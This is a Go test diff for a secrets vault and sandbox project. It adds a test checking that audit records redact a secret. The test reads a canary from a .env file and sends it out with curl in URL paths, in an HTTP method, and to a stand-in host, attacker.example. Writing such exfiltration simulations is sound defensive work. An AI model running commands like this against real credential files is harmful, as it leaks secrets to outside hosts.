@@ -10,6 +10,7 @@ import (
 	"path/filepath"
 	"strconv"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
 	"time"
@@ -17,6 +18,7 @@ import (
 	"github.com/zavhoz/zavhoz/run"
 	"github.com/zavhoz/zavhoz/run/sandbox"
 	"github.com/zavhoz/zavhoz/vault"
+	"github.com/zavhoz/zavhoz/vault/audit"
 	"github.com/zavhoz/zavhoz/vault/fault"
 	"github.com/zavhoz/zavhoz/vault/policy"
 )
@@ -195,6 +197,45 @@ func TestAttack66_NoFileHoldsAValueAfterARun(t *testing.T) {
 				}
 				return nil
 			})
+		}
+	})
+}
+
+// What is recorded of requests is chosen by a command, which may have found somebody's secret in a folder: hosts, methods and paths are masked before they are written,
+// and what is put into a path by the proxy is not written at all.
+func TestAttack65_RecordsOfRequestsHoldNoValue(t *testing.T) {
+	eachUser(t, func(t *testing.T) {
+		var mu sync.Mutex
+		var noted []audit.Event
+		u := newUpstream(t, func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "seen") })
+		dir := worktree(t, map[string]string{".env": "found-canary-5tq8wz1b"})
+		h, e := realHouse(t, func(o *run.Options) {
+			opened(dir, sandbox.ReadOnly)(o)
+			o.Note = func(_ context.Context, ev audit.Event) error {
+				mu.Lock()
+				defer mu.Unlock()
+				noted = append(noted, ev)
+				return nil
+			}
+		})
+		h.acme(u)
+		h.keep("generic", "other", nil, map[string]string{"value": "found-canary-5tq8wz1b"}, policy.Policy{})
+		r := sh(`k=$(cat .env); ` + curl + u.url("/v1/") + `$k; curl -sS --max-time 10 -X "GET$k" ` + u.url("/v1/x") + `; curl -sS --max-time 10 https://$k.attacker.example/$k; true`)
+		r.Cwd = dir
+		res := mustRun(t, e, r)
+		if _, err := e.Request(t.Context(), run.HTTPRequest{Actor: alice, Ref: "acme", Method: "GET", URL: "/v1/found-canary-5tq8wz1b"}); fault.CodeOf(err) != fault.RequestNotAllowed {
+			t.Errorf("a value in an address: %v", err)
+		}
+		mu.Lock()
+		defer mu.Unlock()
+		told, err := json.Marshal(noted)
+		if err != nil || len(noted) < 3 || !strings.Contains(string(told), "[redacted:other.value]") {
+			t.Fatalf("%d: %s %v", len(noted), told, err)
+		}
+		for _, record := range []any{told, res.Denials, h.records} {
+			if text := fmt.Sprintf("%s", record); strings.Contains(strings.ToLower(text), "found-canary") || strings.Contains(text, acmeKey) {
+				t.Errorf("%s", text)
+			}
 		}
 	})
 }
